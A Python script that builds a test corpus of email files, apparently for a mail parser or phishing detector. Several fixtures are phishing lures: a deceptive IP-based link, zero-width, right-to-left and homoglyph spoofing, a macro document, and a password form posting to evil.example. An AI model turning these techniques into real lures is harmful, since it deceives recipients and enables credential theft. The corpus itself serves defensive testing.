# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501
"""Writes the mails of `corpus/`. Run by hand; the `.json` beside each is then reviewed by eye.

All mails are written for these tests, on documentation addresses.
"""

from pathlib import Path

from message_files import archive, encrypted, mail, part, pdf, text_mail, word

HERE = Path(__file__).parent / "corpus"
KOREAN = "고객님의 계정에서 평소와 다른 로그인이 확인되었습니다. 아래에서 확인해 주세요."
JAPANESE = "お客様のアカウントに不審なログインがありました。至急ご確認ください。"
CHINESE = "尊敬的客户，我们发现您的账户出现异常登录，请及时核实您的个人信息。"
TAIWAN = "親愛的客戶，我們發現您的帳戶出現異常登入，請儘快確認您的個人資料。"
ARABIC = "عزيزي العميل، لاحظنا تسجيل دخول غير معتاد إلى حسابك ونرجو تأكيد بياناتك."
RUSSIAN = "Уважаемый клиент, мы заметили необычный вход в вашу учётную запись."

PAGE = """<html><head><style>.pre{display:none}</style></head><body>
<div class="pre">Your parcel is waiting &#847;&zwnj;&nbsp;&#847;&zwnj;</div>
<p>Dear customer,</p><p>please pay the fee at
<a href="http://bank.example@203.0.113.9/pay">https://post.example/pay</a> today.</p>
<p style="color:#ffffff">meeting notes lunch garden</p>
<img src="http://t.example/open.gif" width="1" height="1"></body></html>"""

MAILS: dict[str, bytes] = {
    "01-plain": text_mail("Hello Ann,\r\n\r\nsee   https://x.example/a.\r\nBye\r\n"),
    "02-phishing-page": text_mail(PAGE, "text/html; charset=utf-8"),
    "03-alternative": mail(
        b"Content-Type: text/plain\r\n\r\nIn plain words, see http://plain.example/",
        b"Content-Type: text/html\r\n\r\n<p>In <b>rich</b> words, see <a href=http://rich.example/>this</a>",
        kind="alternative",
    ),
    "04-alternative-page-first": mail(
        b"Content-Type: text/html\r\n\r\n<p>rich",
        b"Content-Type: text/plain\r\n\r\nplain",
        kind="alternative",
    ),
    "05-related": mail(
        b"Content-Type: text/html\r\nContent-ID: <page@b>\r\n\r\n<p>Look: <img src=cid:p@b>",
        b"Content-Type: image/gif; name=p.gif\r\nContent-ID: <p@b>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nR0lGODlhAQABAIAAAP///////yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==",
        kind="related",
    ),
    "06-two-from": text_mail("hi", more="From: Other <e@f.example>\r\nSubject: second\r\nDate: x\r\n"),
    "07-attached-mail": mail(
        b"Content-Type: text/plain\r\n\r\nSee attached.",
        b"Content-Type: message/rfc822\r\n\r\nFrom: x@y.example\r\nSubject: inner\r\n\r\ninner text",
    ),
    "08-named-text-after-the-body": mail(
        b"Content-Type: text/plain\r\n\r\nbody",
        b"Content-Type: text/plain; name=log.txt\r\n\r\nlog",
    ),
    "09-page-called-plain": text_mail("<html><body><p>Hello <b>you</b></body></html>"),
    "10-no-charset-cp1252": text_mail("Grüße – Jürgen".encode("cp1252"), "text/plain"),
    "11-charset-in-meta": text_mail(
        f"<meta charset=euc-kr><p>{KOREAN}".encode("euc-kr"), "text/html"
    ),
    "20-utf-16": text_mail(("\ufeff" + RUSSIAN).encode("utf-16-le"), "text/plain; charset=utf-16"),
    "21-utf-16-without-label": text_mail("Dear customer, confirm your account now please.".encode("utf-16-le"), "text/plain"),
    "22-iso-2022-kr": text_mail(KOREAN.encode("iso2022_kr"), "text/plain; charset=iso-2022-kr"),
    "23-ks-c-5601": text_mail(KOREAN.encode("cp949"), 'text/plain; charset="ks_c_5601-1987"'),
    "24-iso-2022-jp": text_mail(JAPANESE.encode("iso2022_jp"), "text/plain; charset=iso-2022-jp"),
    "25-shift-jis": text_mail(JAPANESE.encode("cp932"), "text/plain; charset=Shift_JIS"),
    "26-gb18030": text_mail(CHINESE.encode("gb18030"), "text/plain; charset=gb2312"),
    "27-big5": text_mail(TAIWAN.encode("big5"), "text/plain; charset=big5"),
    "28-windows-1256": text_mail(ARABIC.encode("cp1256"), "text/plain; charset=windows-1256"),
    "29-koi8-r": text_mail(RUSSIAN.encode("koi8-r"), "text/plain; charset=koi8-r"),
    "30-utf-7-is-not-run": text_mail("+ADw-script+AD4-", "text/plain; charset=utf-7"),
    "31-unknown-charset": text_mail("plain words", "text/plain; charset=rot13"),
    "40-invisible-letters": text_mail(
        "Pay\u200bPal: con\u00adfirm your account at Pay\u200bPal",
        more="X-Other: 1\r\n",
    ).replace(b"Subject: s", "Subject: Pay\u200bPal \u202ereversed\u202c".encode(), 1),
    "41-mixed-scripts": text_mail("Dear custоmer, yоur ассоunt will be сlosed. Рlеаsе соnfirm nоw."),
    "42-styled-letters": text_mail("𝐃𝐞𝐚𝐫 𝐜𝐮𝐬𝐭𝐨𝐦𝐞𝐫, 𝐜𝐨𝐧𝐟𝐢𝐫𝐦 𝐲𝐨𝐮𝐫 𝐚𝐜𝐜𝐨𝐮𝐧𝐭 𝐧𝐨𝐰 𝐩𝐥𝐞𝐚𝐬𝐞"),
    "50-pdf": mail(part(b"See the bill.", kind="text/plain"), part(pdf("https://pay.example/1"), "bill.pdf", "application/pdf")),
    "51-macro": mail(part(b"See the order.", kind="text/plain"), part(word(True), "order.docm")),
    "52-encrypted-archive": mail(
        part(b"The password is 1234.", kind="text/plain"),
        part(encrypted(archive({"bill.js": b"x"})), "bill.zip", "application/zip"),
    ),
    "53-attached-page": mail(
        part(b"Open it.", kind="text/plain"),
        part(b"<html><form action=https://evil.example/take><input type=password></form>", "doc.pdf.html", "text/html"),
    ),
    "60-list-unsubscribe": text_mail(
        "News", more="List-Unsubscribe: <mailto:off@x.example>, <https://x.example/off?u=1>\r\n"
    ),
    "70-only-header": b"From: a@b.example\r\nSubject: s\r\n",
    "71-empty": b"",
    "72-blank": b"\r\n \r\n",
    "73-no-boundary": text_mail("--b\r\n\r\ntext http://x.example/", "multipart/mixed"),
}  # fmt: skip

if __name__ == "__main__":
    HERE.mkdir(exist_ok=True)
    for name, content in MAILS.items():
        (HERE / f"{name}.eml").write_bytes(content)
